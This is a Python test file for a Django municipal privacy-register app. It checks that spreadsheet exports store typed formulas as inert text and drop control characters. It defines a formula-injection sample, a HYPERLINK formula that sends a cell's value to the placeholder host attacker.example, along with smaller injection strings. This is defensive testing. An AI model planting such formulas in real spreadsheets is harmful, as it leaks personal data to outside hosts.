"""Exports never carry a live formula or a control character (issue #19, findings 1 and 8)."""

import io
import zipfile
from datetime import date

from django.urls import reverse
from openpyxl import load_workbook

from hogo.registers import documents, reports
from hogo.registers.models import PersonalInfoFile, Review

# What a division user typed as a register entry's name in the attack test.
FORMULA = '=HYPERLINK("http://attacker.example/?d="&C3,"詳細")'


def formula_cells(data):
    """Every cell the workbook stores as a formula, as (sheet, coordinate)."""
    workbook = load_workbook(io.BytesIO(data))
    return [(sheet.title, cell.coordinate) for sheet in workbook for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def sheet_xml_has_formula(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return any(b"<f>" in archive.read(name) or b"<f " in archive.read(name)
                   for name in archive.namelist() if name.startswith("xl/worksheets/"))


def cell_values(data):
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    return [value for sheet in workbook for row in sheet.iter_rows(values_only=True) for value in row]


def test_it_writes_a_formula_typed_into_a_register_as_text():
    data = documents.write_xlsx(["名称", "件数"], [[FORMULA, 3], ["+1+2", 4], ["@SUM(A1)", None]], "個人情報ファイル簿")
    assert formula_cells(data) == [] and not sheet_xml_has_formula(data)
    values = cell_values(data)
    assert FORMULA in values and "+1+2" in values and "@SUM(A1)" in values
    assert 3 in values  # numbers stay numbers


def test_it_exports_the_file_register_without_a_live_formula(client, privacy, staff, organisation):
    PersonalInfoFile.objects.create(
        division=organisation["own"], name=FORMULA, purpose="=1+1", record_items="氏名", record_scope="区民",
        collection_method="本人から", request_office="区政情報課", registered_on=date(2024, 4, 1))
    client.force_login(privacy)
    response = client.get(reverse("registers:export", args=["files"]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert formula_cells(data) == [] and not sheet_xml_has_formula(data)
    assert FORMULA in cell_values(data)


def test_it_writes_the_council_review_report_without_a_live_formula(setagaya):
    listed = reports.review_report(as_of=date(2023, 4, 1)).lists["outsourcing"]
    _, review = listed[0]
    Review.objects.filter(pk=review.pk).update(content=FORMULA)
    report = reports.review_report(as_of=date(2023, 4, 1), number=359, reported_on=date(2023, 8, 18))
    data = documents.review_report_xlsx(report)
    assert formula_cells(data) == [] and not sheet_xml_has_formula(data)
    assert FORMULA in cell_values(data)


def test_it_drops_control_characters_stored_before_forms_refused_them(client, privacy, organisation):
    PersonalInfoFile.objects.create(
        division=organisation["own"], name="住民\x0b基本\x01台帳", purpose="目的", record_items="氏名",
        record_scope="区民", collection_method="本人から", request_office="区政情報課", registered_on=date(2024, 4, 1))
    client.force_login(privacy)
    response = client.get(reverse("registers:export", args=["files"]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert "住民基本台帳" in cell_values(data)


def test_it_refuses_a_control_character_in_a_review(client, staff):
    from hogo.registers.tests.test_views import review_post

    client.force_login(staff)
    response = client.post(reverse("registers:review_create", args=["outsourcing"]),
                           review_post(content="健診の\x01委託"))
    assert response.status_code == 200
    assert "使用できない制御文字（U+0001）が含まれています" in response.content.decode()
    assert not Review.objects.exists()
